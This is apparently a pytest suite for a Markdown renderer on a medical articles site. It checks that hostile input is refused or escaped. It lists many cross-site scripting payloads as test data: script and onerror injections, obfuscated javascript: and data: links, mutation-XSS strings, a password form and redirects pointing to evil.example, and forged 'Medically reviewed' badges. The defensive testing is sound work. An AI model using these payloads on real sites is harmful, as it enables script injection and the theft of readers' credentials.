"""Hostile text ends in a refusal or in safe HTML, and no word is lost: docs/promise.md, 29 and 30."""

import json
import subprocess
from collections.abc import Iterator
from typing import Any

import pytest

from articles import markdown_child
from articles.rendering import contents, headings, render
from articles.text import TextRefused, normalise
from tests.articles.reader import end, safe

pytestmark = pytest.mark.once


@pytest.fixture(autouse=True)
def _converted_here(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """What the child does with a text, without starting one for each; `test_rendering_child.py` starts them."""

    def run(*_: object, **child: Any) -> "subprocess.CompletedProcess[str]":
        answer = markdown_child.answer(json.loads(child["input"]))
        return subprocess.CompletedProcess([], 0, json.dumps(answer))

    render.cache_clear()
    monkeypatch.setattr(subprocess, "run", run)
    yield
    render.cache_clear()


@pytest.mark.parametrize(
    "typed",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        '<img src=x onerror="alert(1)">',
        '<p onclick="alert(1)" onmouseover=alert(1)>words</p>',
        '<a href="javascript:alert(1)">words</a>',
        "<style>.stamp{display:none}</style>",
        '<p style="position:fixed;inset:0">words</p>',
        '<link rel=stylesheet href="https://evil.example">',
        "<svg onload=alert(1)><script>1</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<form action=https://evil.example><input name=password></form>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<template><p>words</p></template>",
        '<div class="stamp reviewed" id="stamp">Medically reviewed, Clara Test</div>',
        "</div></article></main><h1>Reviewed</h1>",
        "<!-- hidden words -->",
        "<!DOCTYPE html>",
        "<![CDATA[ words ]]>",
        "<?php words ?>",
        "<plaintext>",
        "<b>bold</b>",
    ],
)
def test_raw_html_is_shown_to_the_reader_as_it_was_typed(typed: str) -> None:
    body = (
        f"Before {typed} after.\n\n{typed}\n\n## {typed}\n\n| a | b |\n|---|---|\n| {typed} | b |\n\n"
        f"!!! note\n    {typed}\n\nTerm\n:   {typed}\n\nWords[^1]\n\n    {typed}\n\n[^1]: {typed}\n"
    )
    reader = safe(render(normalise(body)))
    assert f"Before {typed} after." in reader.seen
    assert reader.seen.count(typed) == 8


COMPARISONS = [
    "dose <5 mg",
    "dose < 5 mg and > 2 mg",
    "<5 mg",
    "<high or >low",
    "5<x<7 and y>3",
    "a<b>c",
    "x <y z",
    "< p",
    "</",
    "<",
    "1 & 2 &copy 3 &; &# &#; &zzz;",
    "\\<5",
]


def test_signs_of_comparison_keep_every_word() -> None:
    assert safe(render("\n\n".join(COMPARISONS))).seen.split("\n") == COMPARISONS


@pytest.mark.parametrize("typed", ["<5 mg", "<high or >low"])
def test_a_text_of_nothing_but_a_comparison_is_kept(typed: str) -> None:
    assert safe(render(typed)).seen == typed


@pytest.mark.parametrize(
    ("typed", "words"),
    [
        pytest.param("One.\n\n[Warning]: never", "Warning never", id="a line that looks like a definition"),
        pytest.param('One.\n\n[dose]: https://example.org "never"', "dose never", id="a definition nobody uses"),
        pytest.param("[a][b]\n\n[b]: /one/\n\n[b]: /other/", "/one/ /other/", id="a definition written twice"),
        pytest.param("Dose[^1]\n\n[^1]: never two\n\n[^1]: take one", "never take", id="a note written twice"),
        pytest.param("| a | b |\n|---|---|\n| 1 | 2 | never |", "never", id="a cell too many"),
        pytest.param("[dose](https://example.org 'never')", "dose never", id="the title of a link"),
        pytest.param("!!! warning never with alcohol\n    words", "never alcohol words", id="a title without quotes"),
        pytest.param("Dose[^9] a day", "Dose[^9]", id="a note that does not exist"),
        pytest.param("One.\n\n[^1]: a note nobody uses", "note nobody uses", id="a note nobody uses"),
        pytest.param("![picture][none] and [link][none]", "![picture][none] [link][none]", id="links to nothing"),
        pytest.param("`one` ``two`` *three* ***four*** _five_", "one two three four five", id="emphasis"),
        pytest.param("```python\none\n```\n\n~~~\ntwo\n~~~", "python one two", id="fences"),
        pytest.param(
            "*[HTML]: one\n\nHTML {: .class } [TOC]", "*[HTML]: one .class [TOC]", id="extensions that are off"
        ),
        pytest.param("!!! seal\n    words", "Seal words", id="a callout of no known kind"),
        pytest.param("- one\n\n    - two\n\n1. three\n* four", "one two three four", id="lists"),
        pytest.param("Term\n:   one\n\n    two\n\n: three", "Term one two three", id="a list of meanings"),
        pytest.param("One\n===\n\nTwo\n---\n\n####### Seven", "One Two Seven", id="headings"),
    ],
)
def test_no_word_is_lost_without_a_refusal(typed: str, words: str) -> None:
    html, refusal = end(typed)
    reader = safe(html)
    assert refusal or [word for word in words.split() if word not in reader.seen and word not in reader.links] == []


# Links: way 29


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "<javascript:alert(1)>",
        "java\tscript:alert(1)",
        "javascript&#58;alert(1)",
        "javascript&colon;alert(1)",
        "java&#115;cript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "java&Tab;script:alert(1)",
        "java&NewLine;script:alert(1)",
        "javascript:123",
        "javascript://example.org/%0aalert(1)",
        "vbscript:1",
        "data:1",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,words",
        "blob:https://example.org/1",
        "file:///etc/passwd",
        "ftp://example.org",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "https:evil.example",
        "relative",
        "?query",
        "https://example.org/{{ members }}",
        "/{{ members }}",
    ],
)
def test_a_link_that_is_not_plain_is_refused_by_its_address(address: str) -> None:
    with pytest.raises(TextRefused, match=r"(?s)the link address “.*” is not allowed"):
        render(normalise(f"Some [words]({address}) here."))


@pytest.mark.parametrize("address", ["javascript:alert(1)", "javascript&#58;alert(1)", "data:1", "//evil.example"])
def test_a_definition_or_a_heading_hides_no_such_link(address: str) -> None:
    for typed in (f"[words][x]\n\n[x]: {address}", f"[x]\n\n[x]: <{address}>", f"## [words]({address})"):
        html, refusal = end(typed)
        assert "is not allowed" in refusal or safe(html).links == []


def test_what_is_no_link_stays_words() -> None:
    typed = [
        "<javascript:alert(1)>",
        "[words](javascript:alert(1)",
        "[words] (javascript:alert(1))",
        "javascript:alert(1)",
    ]
    reader = safe(render("\n\n".join([*typed, "`[words](data:1)`", "    [words](data:1)"])))
    assert reader.links == []
    assert reader.seen.split("\n")[:6] == [*typed, "[words](data:1)", "[words](data:1)"]


@pytest.mark.parametrize(
    "address",
    [
        'https://example.org" onmouseover="alert(1)',
        "https://example.org:99999/",
        "https://exa mple.org/",
        "https://[::1/",
        "https://%zz/",
    ],
)
def test_a_link_is_refused_or_still_leads_somewhere_and_is_never_silently_dropped(address: str) -> None:
    html, refusal = end(f"[words]({address})")
    assert refusal or safe(html).links


@pytest.mark.parametrize(
    ("typed", "address"),
    [
        ("[words](https://example.org/a?b=1&c=2#d)", "https://example.org/a?b=1&c=2#d"),
        ("[words](http://example.org)", "http://example.org"),
        ("<https://example.org/>", "https://example.org/"),
        ("[words](mailto:ada@example.org)", "mailto:ada@example.org"),
        ("<ada@example.org>", "mailto:ada@example.org"),
        ("[words](/conditions/)", "/conditions/"),
        ("[words](#s-treatment)", "#s-treatment"),
    ],
)
def test_a_plain_link_leads_where_it_says_and_gives_nothing_away(typed: str, address: str) -> None:
    html = render(typed)
    assert safe(html).links == [address]
    assert html.count('rel="noopener noreferrer"') == 1


def test_an_image_is_refused_with_the_remedy() -> None:
    with pytest.raises(TextRefused, match=r"an image\. Images are not possible yet; describe it in words"):
        render("![scan](https://example.org/scan.png)")


def test_an_image_with_a_definition_is_refused_or_stays_words() -> None:
    html, refusal = end("![scan][x]\n\n[x]: https://example.org/scan.png")
    assert "Images are not possible" in refusal or safe(html).seen.startswith("![scan][x]")


# Forged badges, ids, classes: way 29


@pytest.mark.parametrize(
    "typed",
    [
        '!!! stamp "Medically reviewed"\n    Clara Test, MD',
        '!!! note stamp reviewed "Medically reviewed"\n    Clara Test, MD',
        "Medically reviewed {: .stamp #stamp }",
        "## Medically reviewed {#stamp .stamp}",
        '[Medically reviewed](/reviewers/clara/){: class="stamp" }',
        "Words[^stamp]\n\n[^stamp]: Medically reviewed",
        'Words[^a"class="stamp]\n\n[^a"class="stamp]: Medically reviewed',
    ],
)
def test_an_author_draws_no_badge_with_classes_or_ids(typed: str) -> None:
    html, refusal = end(typed)
    # `safe` knows every class, and the prefix of every id, that a text may hold.
    assert refusal or "Medically reviewed" in safe(html).seen


def test_the_id_of_a_heading_has_a_prefix() -> None:
    titles = ["cookie", "main", "stamp", "__proto__", "s", "fn:1", "名前"]
    anchors = safe(render("\n\n".join(f"{'#' * level} {title}" for level in range(1, 7) for title in titles))).ids
    assert len(anchors) == 6 * len(titles)
    assert all(anchor.startswith("s-") for anchor in anchors)


def test_a_heading_called_cookie_shadows_nothing_in_the_browser() -> None:
    assert render("# cookie") == '<h1 id="s-cookie">cookie</h1>'


def test_equal_headings_get_ids_of_their_own() -> None:
    assert len(set(safe(render("## Dose\n\n## Dose\n\n## Dose")).ids)) == 3


def test_a_callout_keeps_the_class_of_the_design() -> None:
    assert '<div class="admonition warning">' in render("!!! warning\n    Never two.")


def test_a_link_to_a_source_becomes_the_raised_number() -> None:
    html = render("Known [2](#source-2).")
    assert safe(html).links == ["#source-2"]
    assert '<sup><a href="#source-2" aria-label="Source 2" rel="noopener noreferrer">2</a></sup>.' in html


# Characters that come into being on the way: way 30


@pytest.mark.parametrize("code", ["#8238", "#x200B"])
@pytest.mark.parametrize(
    "trick",
    [
        "&\\CODE;",
        "## Dose &\\CODE;",
        "[dose &\\CODE;](https://example.org)",
        "[dose](https://example.org/&\\CODE;)",
        "| a |\n|---|\n| &\\CODE; |",
        '!!! note "&\\CODE;"\n    words',
        "words[^1]\n\n[^1]: &\\CODE;",
        "&#38;CODE;",
        "&amp;\\CODE;",
        "`&\\CODE;`",
        "    &\\CODE;",
        "&**CODE**;",
    ],
)
def test_no_trick_with_an_entity_brings_a_hidden_character_to_the_reader(trick: str, code: str) -> None:
    html, refusal = end(trick.replace("CODE", code))
    assert refusal or safe(html)


@pytest.mark.parametrize("code", ["#14", "#x202e", "#8294", "#xFEFF", "#173", "#1635"])
def test_an_escaped_entity_is_no_way_round_the_refused_characters(code: str) -> None:
    html, refusal = end(f"&\\{code};")
    assert refusal or safe(html)


# Sizes and nests: way 29


def test_the_contents_list_the_sections_in_order() -> None:
    html = render("Opening\n\n## First & <last>\n\n### Deeper\n\n## *Second* `code`\n\nwords")
    assert contents(html) == [("s-first-last", "First & <last>"), ("s-second-code", "Second code")]


def test_the_headings_come_with_their_level() -> None:
    html = render("# One\n\n### Three\n\n## Two")
    assert headings(html) == [(1, "One"), (3, "Three"), (2, "Two")]


def test_a_heading_that_was_only_typed_as_html_or_code_is_none() -> None:
    html = render("<h2 id='s-x'>words</h2>\n\n`## code`\n\n    ## code")
    assert contents(html) == []
    assert headings(html) == []


def test_a_text_without_a_word_is_empty() -> None:
    assert render("") == ""
    assert contents("") == []


def test_the_token_of_members_stays_a_token() -> None:
    assert render("Ask {{ members }}.") == "<p>Ask {{ members }}.</p>"
